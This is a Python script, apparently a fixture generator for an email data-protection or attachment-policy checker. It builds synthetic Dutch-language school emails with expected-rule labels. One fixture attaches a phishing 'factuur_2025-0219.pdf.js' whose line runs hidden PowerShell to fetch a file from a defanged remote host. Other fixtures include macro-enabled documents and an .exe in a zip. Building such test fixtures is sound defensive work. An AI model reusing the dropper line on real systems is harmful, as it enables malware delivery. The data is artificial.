_klaslijst = "Voornaam;Naam;Ouder;GSM\r\n" + "".join(
    "%s;%s;%s;04%d%d %02d %02d %02d\r\n" % (p["first"], p["last"], p["p1"], _rng_tel.choice([7, 8, 9]),
                                          _rng_tel.randrange(0, 10), _rng_tel.randrange(100),
                                          _rng_tel.randrange(100), _rng_tel.randrange(100)) for p in _k3b)
add("klaslijst-k3b-naar-hotmail", "2024-09-08 20:50", S["k3b"], [("Sofie Vermeulen", "sofie_vermeulen@hotmail.com")],
    "FW: klaslijst K3B",
    T("""
    om thuis af te printen
    """) + olq("Maes Greet <greet.maes@sintpieterscollege.be>", "vrijdag 6 september 2024 14:20",
               "Vermeulen Sofie <sofie.vermeulen@sintpieterscollege.be>", "klaslijst K3B", T("""
    Dag Sofie, hier de klaslijst met de gsm-nummers van de ouders, voor de telefoonketen.
    Greet
    """)), atts=[("klaslijst_K3B.csv", _klaslijst.encode("cp1252", "replace"))], tags=["forward"],
    rules="personal_data private_account", kind="other",
    note="school class list with parents' mobile numbers forwarded to the teacher's own hotmail")

add("bbq-zaterdag-prive", "2025-05-28 19:40", ("Evy De Smet", "evydesmet@gmail.com"), [S["2a"]], "zaterdag?",
    T("""
    Hey Annelies!

    Zaterdag vieren we de verjaardag van onze jongste met een barbecue in de tuin, vanaf 15u. Komen jullie
    ook? Breng de kinderen en zwemgerief mee, het opblaasbad staat klaar als het warm is. :-)

    Laat je iets weten?
    Evy
    """), mailer="gmail", html="simple", kind="other",
    note="private account used for a private invitation to a colleague: allowed")

add("toezichtrooster-xlsm", "2024-12-18 13:10", S["mid"], [S["dir"]], "toezichtrooster middag",
    T("""
    Koen,

    Hier het nieuwe bestand voor de middagtoezichten. Als je op de knop 'Verdeel' klikt, maakt het automatisch
    de weekplanning. Je moet wel de macro's inschakelen als Excel erom vraagt.

    Marleen
    """), atts=[("toezichtrooster_middag.xlsm", make_xlsx(
        [["Week", "Refter 1", "Refter 2", "Speelplaats"], ["2", "Marleen", "Katrien", "Tom"],
         ["3", "Marleen", "Dieter", "Eline"]], "Rooster",
        macro='Sub Verdeel()\r\n  Range("A2:D40").ClearContents\r\nEnd Sub\r\n'))],
    rules="attachment", kind="other", note="macro-enabled workbook (.xlsm)")

add("fotos-schoolfeest-zip-exe", "2024-10-03 21:05", S["sec"], [X["oc_vz"]], "foto's schoolfeest",
    T("""
    Dag Pieter-Jan,

    Hier de foto's van het schoolfeest voor de facebookpagina van het oudercomité (enkel die van kinderen
    waarvoor we toestemming hebben, die heb ik al gesorteerd). Er zit een programmaatje bij om ze als
    diavoorstelling te bekijken.

    Groetjes,
    Greet
    """), atts=[("fotos_schoolfeest_2024.zip", _zip([
        ("fotos_schoolfeest/IMG_0101.jpg", make_jpg(101, 600)),
        ("fotos_schoolfeest/IMG_0102.jpg", make_jpg(102, 600)),
        ("fotos_schoolfeest/Diavoorstelling.exe", make_exe(7)),
    ]))], rules="attachment", kind="other", note="zip archive containing an .exe")

add("sjabloon-rapportbrief-docm", "2025-03-14 10:15", S["sec"], [S["dir"]], "sjabloon rapportbrief",
    T("""
    Koen, het nieuwe sjabloon voor de rapportbrief. Het vult automatisch de naam van de klas en de datum in
    als je het opent (macro's toelaten).
    Greet
    """), atts=[("Sjabloon rapportbrief.docm", make_docx([
        "Beste ouders,", "Hierbij het rapport van het tweede trimester.", "Met vriendelijke groeten,"],
        macro='Sub AutoOpen()\r\n  ActiveDocument.Bookmarks("datum").Range.Text = Date\r\nEnd Sub\r\n'))],
    rules="attachment", kind="other", note="macro-enabled Word document (.docm)")

add("ipad-sync-script", "2025-01-10 15:20", S["ict"], [S["3a"], S["3b"]], "script voor de laadkar",
    T("""
    Tom, Eline,

    Als de iPads in kar 1 niet synchroniseren: sluit de kar aan op de laptop van de klas en voer het script in
    bijlage uit (rechtermuisklik > Uitvoeren met PowerShell). Het herstart de Apple-dienst en zet alles opnieuw
    klaar.

    Pieter
    """), atts=[("ipad_sync_kar1.ps1", T("""
    # herstart Apple Mobile Device Service en synchroniseert laadkar 1
    Restart-Service -Name "Apple Mobile Device Service" -Force
    Start-Sleep -Seconds 5
    & "C:\\Program Files\\Stroom\\KarSync\\karsync.exe" /kar 1 /quiet
    Write-Host "Klaar"
    """).replace("\n", "\r\n"))], rules="attachment", kind="other", note="PowerShell script attachment")

add("fw-verdachte-factuur-js", "2025-02-19 08:25", S["5b"], [S["ict"]], "FW: Uw factuur 2025-0219",
    T("""
    Pieter, dit kreeg ik vannacht, is dit te vertrouwen? Ik heb het nog niet geopend.
    Dieter

    """) + olq("Boekhouding <noreply@facturen-online24.com>", "woensdag 19 februari 2025 3:12",
               "dieter.goetschalckx@sintpieterscollege.be", "Uw factuur 2025-0219", T("""
    Geachte klant,
    In bijlage vindt u uw factuur. Gelieve binnen 3 dagen te betalen.
    """)), atts=[("factuur_2025-0219.pdf.js", "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c iwr hxxp://facturen-online24.com/a');\r\n")],
    tags=["forward"], rules="attachment", kind="other",
    note="teacher forwards a suspicious .js attachment to ICT: the script still travels")

add("busreservatie-begeleider-gsm", "2025-03-18 10:30", S["sec"], [X["bus"]], "Reservatie bus 10 april - 2B",
    T("""
    Beste,

    Graag bevestigen we de bus voor donderdag 10 april: vertrek 9u00 aan de school (Kerkstraat 14, Wilsele),
    bestemming Kinderboerderij De Hoeve in Bertem, terugrit om 15u00. 16 kinderen en 3 begeleiders.

    Verantwoordelijke leerkracht die dag: juf Joke Heylen, bereikbaar op 0479 31 05 82.

    Met vriendelijke groeten,
    """) + SIG["sec_m"] + "\n", rules="personal_data", kind="other",
    note="bus booking with the teacher's mobile number")

add("terugbetaling-uitstap-mila", "2025-02-26 11:45", S["bkh"], [P("P0105", 2)], "Terugbetaling uitstap",
    T("""
    Beste meneer Goris,

    Omdat de uitstap van het eerste leerjaar naar de bib door de staking werd afgelast, storten we de € 6,00
    die u al betaalde voor Mila terug op het rekeningnummer waarmee u betaald hebt: %s.

    Met vriendelijke groeten,
    """ % iban_be(63, 5512874)) + SIG["bkh"] + "\n", about="P0105", rules="personal_data", kind="other",
    note="refund of a cancelled trip to the parent's valid IBAN; a refund is not a financial hardship fact")

_cross = [["Naam", "Voornaam", "Klas", "Geboortedatum", "Reeks"]]
_rng_dob = random.Random(SEED + 5)
for c in ("5A", "5B"):
    for p in klas(c)[:5]:
        _cross.append([p["last"], p["first"], c, "%02d/%02d/2014" % (_rng_dob.randrange(1, 29), _rng_dob.randrange(1, 13)),
                       "jongens 10j" if p["first"] in BOYS else "meisjes 10j"])
add("inschrijving-scholencross", "2024-10-29 14:00", S["lo"], [X["sport"]], "Inschrijving scholencross 5de leerjaar",
    T("""
    Beste,

    Hierbij onze inschrijvingen voor de scholencross van 13 november. Jullie vroegen de geboortedatum voor de
    indeling in de reeksen.

    [[T0]]

    Sportieve groeten,
    Wouter Lemmens
    basisschool Stroom Wilsele
    """), html=True, html_only=True, tables=[_cross], tags=["table"], rules="personal_data", kind="other",
    note="registration list with pupils' dates of birth; nothing sensitive")

add("bestelling-traiteur-schoolfeest", "2024-09-19 09:15", S["dir"], [X["traiteur"]], "Bestelling schoolfeest 28/9",
    T("""
    Beste,

    Voor ons schoolfeest op zaterdag 28 september bestellen we graag:
    - 250 broodjes (gemengd, waarvan 60 vegetarisch)
    - 4 bakken frisdrank en 2 bakken water
    Levering om 11u aan de refter (ingang Kerkstraat).

    Met vriendelijke groeten,

    """) + SIG["dir"], rules="personal_data", kind="other",
    note="plain order; school and director's phone numbers in the signature")

add("planning-zorgoverleg", "2024-09-10 10:40", S["zorg"], [X["clb"]], "Data zorgoverleg 1ste trimester",
    T("""
    Dag Dries,

    Hier de data voor de zorgoverleggen van het eerste trimester, telkens van 13u15 tot 15u15 in de zorgklas:
    - dinsdag 8 oktober: kleuters
    - dinsdag 12 november: 1ste - 3de leerjaar
    - dinsdag 10 december: 4de - 6de leerjaar

    De leerlingen die we willen bespreken, zet ik vooraf in het leerlingvolgsysteem.

    Groetjes,
    Hilde
    """), kind="other", note="meeting dates with the CLB, no pupil")

def _buurman():
    m = EmailMessage()
    m["From"] = "Jef Vanderauwera <jef.vanderauwera@telenet.be>"
    m["To"] = "info@spc.ksleuven.be"
    m["Subject"] = "parkeren Kerkstraat"
    m["Date"] = "Mon, 30 Sep 2024 18:02:11 +0200"
    m["Message-ID"] = "<d3b1c2a4-77e0-4c1b-9f0e-2a8b5e61c0f1@telenet.be>"
    m.set_content(T("""
    Goedenavond,

    Elke ochtend staan er ouders te parkeren voor mijn garagepoort in de Kerkstraat, ook al is er nu een
    kiss-and-ride. Vanmorgen kon ik weer niet buiten om naar mijn werk te gaan. Kan de school daar iets aan doen?

    Jef Vanderauwera
    Kerkstraat 21
    """))
    return m


add("fw-klacht-parkeren-rfc822", "2024-10-01 08:40", S["dir"], [S["log"]], "TR: parkeren Kerkstraat",
    T("""
    Luc, kan jij vanmorgen eens kijken aan de kiss-and-ride? Zie de mail van een buurman hieronder.
    Koen
    """), rfc822=_buurman(), tags=["forward"], kind="other",
    note="forward of a neighbour's complaint as an attached message; no pupil")

add("melding-datalek-verkeerde-ouder", "2025-02-19 08:05", S["4b"], [G["privacy"]], "Mail naar verkeerde ouder",
    T("""
    Beste,

    Ik denk dat ik een datalek moet melden. Gisteravond heb ik een mail over een leerling per ongeluk naar een
    verkeerde ouder gestuurd (de autocomplete koos een ouder met dezelfde familienaam). De ouder heeft vanmorgen
    al geantwoord dat ze de mail verwijderd heeft en niets verder zal doen.

    Wat moet ik nu nog doen? Moet ik de juiste ouders ook verwittigen?

    Bram Van Damme
    leerkracht 4B, basisschool Stroom Wilsele
    """), kind="other", note="data-leak report to the DPO without naming the pupil or the content")


# ==========================================================================
def summary(order):
    from collections import Counter
    rc, cc, kc = Counter(), Counter(), Counter()
    mis = ok_parent = ok_other = 0
    allpar = {a for p in PUP.values() for a in (p["p1"], p["p2"]) if a}
    for i in order:
        m = MAILS[i]
        rc.update(m["rules"] or ["(none)"])
        cc.update(m["cats"])
        kc[m["kind"] or "other"] += 1
        if m["about"]:
            rcpt = {ad(x) for x in m["to"] + m["cc"] + m["bcc"]}
            if m["mis"]:
                mis += 1
            elif rcpt & allpar:
                ok_parent += 1
            else:
                ok_other += 1
    print("mails:", len(order))
    print("rules:", dict(sorted(rc.items())))
    print("categories:", dict(sorted(cc.items())))
    print("kinds:", dict(sorted(kc.items())))
    print("about a pupil: misdirected %d, correctly addressed to parents %d, to staff/partners/pupils %d"
          % (mis, ok_parent, ok_other))


if __name__ == "__main__":
    summary(write_all())
